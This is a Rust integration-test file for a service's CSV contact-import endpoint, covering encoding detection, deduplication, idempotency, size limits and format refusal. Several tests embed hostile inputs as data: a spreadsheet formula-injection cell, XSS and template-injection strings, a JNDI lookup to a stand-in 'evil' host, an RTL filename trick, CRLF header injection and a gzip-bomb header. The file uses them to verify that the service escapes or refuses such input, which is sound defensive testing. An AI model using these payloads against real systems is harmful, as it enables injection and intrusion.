//! Contact files from outside (design/reliability.md 3d): what is said of a file before
//! and after, what of it comes out again, and what it may never do.

use axum::{
    body::{Body, Bytes},
    http::{Method, Request},
};
use campanile_store::rows::{Role, Scope};
use campanile_web::csv_import::ImportLimits;
use futures_util::{StreamExt, stream};
use serde_json::{Value, json};

use crate::{
    console::sign_in,
    harness::{Answer, PHONE, Server},
};

/// Sends a file with these headers besides its type.
async fn send(
    server: &Server,
    path: &str,
    headers: &[(&str, &str)],
    file: impl Into<Body>,
) -> Answer {
    let mut request = server.request(Method::POST, path).header("content-type", "text/csv");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    server.send(request.body(file.into()).unwrap()).await
}

async fn numbers(server: &Server, campaign: &str) -> Vec<String> {
    let page = server.get(&format!("{campaign}/contacts?limit=200")).await.json();
    let numbers = page["data"].as_array().unwrap().iter();
    numbers.map(|contact| contact["phone_number"].as_str().unwrap().to_owned()).collect()
}

#[tokio::test]
async fn the_answer_says_how_a_file_was_read_and_a_wrong_guess_is_overridden() {
    let server = Server::start().await;
    let path = format!("{}/contacts", server.draft().await);
    let file = format!("phone_number;name, first name\r\n+{PHONE};Ä\r\n");
    let file: Vec<u8> = file.chars().map(|char| u8::try_from(char).unwrap()).collect();
    let read = server.csv(&path, file.clone()).await;
    assert_eq!(read.status, 422, "a comma here and a semicolon there: {}", read.text());
    let read = send(&server, &format!("{path}?separator=semicolon"), &[], file.clone()).await;
    assert_eq!(read.json()["encoding"], "windows-1252");
    assert_eq!(read.json()["columns"], json!(["phone_number", "name, first name"]));
    let address = format!("{path}?separator=%3B&encoding=iso-8859-7");
    let read = send(&server, &address, &[], file.clone()).await.json();
    assert_eq!(
        (&read["encoding"], &read["separator"]),
        (&json!("ISO-8859-7"), &json!("semicolon"))
    );
    let contact = server.get(&path).await.json()["data"][0].clone();
    assert_eq!(contact["variables"]["name, first name"], "Δ");
    for (query, status) in [("encoding=klingon", 415), ("separator=%23", 422), ("separater=;", 422)]
    {
        let refused = send(&server, &format!("{path}?{query}"), &[], file.clone()).await;
        assert_eq!(refused.status.as_u16(), status, "{query}: {}", refused.text());
    }
}

#[tokio::test]
async fn a_preview_keeps_nothing_and_reads_no_more_than_the_beginning() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let path = format!("{campaign}/contacts/preview");
    let file = format!("phone_number;name\n+{PHONE};Asha\nbanana;Ravi\n");
    insta::assert_snapshot!("preview", server.show(&server.csv(&path, file.clone()).await));
    // Of a file without an end only the beginning is taken.
    let line = format!("+{PHONE};{}\n", "x".repeat(1_000));
    let seen = send(&server, &path, &[], endless("phone_number;name\n", line)).await;
    assert_eq!(seen.json()["rows"].as_array().unwrap().len(), 20, "{}", seen.text());
    let zip = server.csv(&path, &b"PK\x03\x04________"[..]).await;
    assert_eq!((zip.status.as_u16(), &zip.json()["code"]), (415, &json!("other_format")));
    assert_eq!(server.get(&campaign).await.json()["total"], 0);
}

/// A body whose second part comes again and again.
fn endless(first: &'static str, again: String) -> Body {
    let again = stream::repeat(Bytes::from(again));
    let all = stream::iter([Bytes::from(first)]).chain(again);
    Body::from_stream(all.map(Ok::<_, std::io::Error>))
}

#[tokio::test]
async fn refused_rows_come_back_with_reason_and_columns_and_the_counts_add_up() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let path = format!("{campaign}/contacts");
    let file = format!(
        "name,Phone Number,note\n\
         Asha,+{PHONE},\n\
         =cmd|' /C calc'!A0,banana,\"two\nlines\"\n\
         Ravi,{},again\n\
         \"a\0b\",+{},x\n\
         Uma,+{},,surplus,\n\
         ,,\n\
         Dev,9.19E+11,\n\
         Isha,+{}x12,\n\
         Old,112,\n",
        PHONE,
        PHONE + 1,
        PHONE + 2,
        PHONE + 3,
    );
    let answer = server.csv(&path, file).await.json();
    let counts = ["accepted", "duplicates", "invalid"].map(|name| answer[name].as_u64().unwrap());
    assert_eq!(counts, [1, 1, 6], "{answer}");
    assert_eq!(answer["rows"], counts.iter().sum::<u64>());
    let url = answer["rejected_url"].as_str().unwrap();
    insta::assert_snapshot!("rejected_with_columns", server.show(&server.get(url).await));
    insta::assert_snapshot!(
        "rejected_raw",
        server.show(&server.get(&format!("{url}?raw=true")).await)
    );

    // Mended, the file can be sent as it came. On a draft it replaces the contacts, so
    // that the number that was there twice is there once.
    let mended =
        server.get(&format!("{url}?raw=true")).await.text().replace("banana", "9876500009");
    let again = server.csv(&path, mended).await.json();
    assert_eq!(again["accepted"], 2, "{again}");

    // Only for those who may take contacts out.
    let key = server.key(Scope::Read).await;
    let request = Request::get(url).header("authorization", format!("Bearer {key}"));
    let refused = server.send(request.body(Body::empty()).unwrap()).await;
    assert_eq!(refused.status, 403);
}

#[tokio::test]
async fn numbers_are_one_in_every_spelling_and_from_every_file() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let path = format!("{campaign}/contacts");
    let national = PHONE % 10_000_000_000;
    let spellings = format!("phone_number\n+{PHONE}\n0{national}\n00{PHONE}\n{national}\n");
    let answer = server.csv(&path, spellings.clone()).await.json();
    assert_eq!((&answer["accepted"], &answer["duplicates"]), (&json!(1), &json!(3)), "{answer}");

    server.post(&format!("{campaign}/start"), json!({})).await;
    // The same file twice, an overlapping one, the number in another spelling.
    let overlapping = format!("phone_number\n0{national}\n+{}\n", PHONE + 1);
    for (file, accepted) in [(&spellings, 0), (&spellings, 0), (&overlapping, 1), (&overlapping, 0)]
    {
        let answer = server.csv(&path, file.clone()).await.json();
        assert_eq!(answer["accepted"], accepted, "{answer}");
    }
    assert_eq!(numbers(&server, &campaign).await.len(), 2);
}

#[tokio::test]
async fn the_same_file_under_the_same_key_is_taken_once() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let path = format!("{campaign}/contacts");
    server.csv(&path, format!("phone_number\n+{PHONE}\n")).await;
    server.post(&format!("{campaign}/start"), json!({})).await;
    let key = [("idempotency-key", "monday-1")];
    let file = format!("phone_number\n+{}\nbanana\n", PHONE + 1);
    let first = send(&server, &path, &key, file.clone()).await;
    assert_eq!(first.json()["accepted"], 1);
    let again = send(&server, &path, &key, file).await;
    assert_eq!(again.json(), first.json(), "the answer that may have been lost");
    let other = send(&server, &path, &key, format!("phone_number\n+{}\n", PHONE + 2)).await;
    assert_eq!(other.status, 422);
    assert_eq!(other.json()["errors"][0]["code"], "idempotency_mismatch");
    let long = "k".repeat(256);
    let refused = send(&server, &path, &[("idempotency-key", &long)], "phone_number\n").await;
    assert_eq!(
        (refused.status.as_u16(), &refused.json()["code"]),
        (400, &json!("bad_idempotency_key"))
    );
    assert_eq!(numbers(&server, &campaign).await.len(), 2);
}

#[tokio::test]
async fn compressed_and_foreign_bodies_are_refused_with_what_to_do() {
    let server = Server::start().await;
    let path = format!("{}/contacts", server.draft().await);
    let bomb = [b"\x1F\x8B\x08\x00".as_slice(), &[0; 64]].concat();
    let csv = || format!("phone_number\n+{PHONE}\n").into_bytes();
    type Upload<'a> = (&'a str, &'a [(&'a str, &'a str)], Vec<u8>, &'a str);
    let cases: [Upload<'_>; 5] = [
        ("gzip as its coding", &[("content-encoding", "gzip")], csv(), "uncompressed"),
        ("gzip without saying so", &[], bomb, "unpack it"),
        ("zip", &[], b"PK\x03\x04\x14\0\0\0\x08\0".to_vec(), "save the sheet as CSV"),
        ("xls", &[], b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(), "save the sheet as CSV"),
        ("unknown charset", &[("content-type", "text/csv; charset=x-none")], csv(), "utf-8"),
    ];
    for (case, headers, file, advice) in cases {
        let mut request = server.request(Method::POST, &path);
        if headers.iter().all(|(name, _)| *name != "content-type") {
            request = request.header("content-type", "text/csv");
        }
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let refused = server.send(request.body(Body::from(file)).unwrap()).await;
        assert_eq!(refused.status, 415, "{case}: {}", refused.text());
        let detail = refused.json()["detail"].as_str().unwrap().to_owned();
        assert!(detail.contains(advice), "{case}: {detail}");
    }
    let mut request = server.request(Method::POST, &path);
    request = request.header(
        "content-type",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    let refused = server.send(request.body(Body::from("PK")).unwrap()).await;
    assert_eq!(refused.status, 415);
    assert!(refused.text().contains("save a workbook as CSV"), "{}", refused.text());
}

#[tokio::test]
async fn a_file_over_the_limit_is_refused_before_it_is_read() {
    let limits = ImportLimits { bytes_max: 1_000, ..ImportLimits::default() };
    let server = Server::with(limits, true).await;
    let path = format!("{}/contacts", server.draft().await);
    // Two gigabytes by their own word, of which not one byte is wanted.
    let untouched =
        stream::poll_fn(|_| -> std::task::Poll<Option<Result<Bytes, std::io::Error>>> {
            panic!("nobody may read this body")
        });
    let headers = [("content-length", "2000000000")];
    let refused = send(&server, &path, &headers, Body::from_stream(untouched)).await;
    assert_eq!(refused.status, 413, "{}", refused.text());
    assert!(refused.text().contains("larger than 1 kB"), "{}", refused.text());
}

#[tokio::test]
async fn hostile_values_are_texts_wherever_they_show_up() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let values = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "${jndi:ldap://evil/x}",
        "\u{202e}txt.exe",
        "x\r\nSet-Cookie: a=b",
    ];
    let cells: String = values
        .iter()
        .enumerate()
        .map(|(n, value)| format!("+{},\"{}\"\n", PHONE + n as u64, value.replace('"', "\"\"")))
        .collect();
    // A name of a column is as foreign as a value.
    let file = format!("phone_number,<b>n</b>\n{cells}");
    assert_eq!(server.csv(&format!("{campaign}/contacts"), file).await.json()["accepted"], 6);
    let list = server.get(&format!("{campaign}/contacts")).await.json();
    let kept: Vec<&Value> =
        list["data"].as_array().unwrap().iter().map(|row| &row["variables"]["<b>n</b>"]).collect();
    assert_eq!(kept, values, "JSON says them as they are");

    let id = campaign.rsplit('/').next().unwrap();
    let session = sign_in(&server, Role::Operator).await;
    let request = Request::get(format!("/dashboard/campaigns/{id}")).header("cookie", session);
    let page = server.send(request.body(Body::empty()).unwrap()).await.text();
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "as a text");
    assert!(page.contains("<bdi>\u{202e}txt.exe</bdi>"), "what turns the text is kept apart");
    assert!(page.contains("{{7*7}}") && page.contains("${jndi:ldap://evil/x}"));
    for raw in ["<script>alert", "<img src=x", "<b>n</b>", ">49<"] {
        assert!(!page.contains(raw), "{raw}");
    }
}

#[tokio::test]
async fn an_upload_tells_its_progress_and_a_lost_browser_finds_it() {
    let server = Server::start().await;
    let campaign = server.draft().await;
    let answer =
        server.csv(&format!("{campaign}/contacts"), format!("phone_number\n+{PHONE}\nx\n")).await;
    let url = answer.json()["rejected_url"].as_str().unwrap().to_owned();
    let upload = server.get(url.trim_end_matches("/rejected.csv")).await.json();
    assert_eq!(upload["stage"], "done");
    assert_eq!((&upload["rows"], &upload["applied"]), (&json!(2), &json!(1)));
    assert_eq!(upload["separator"], "comma");
}
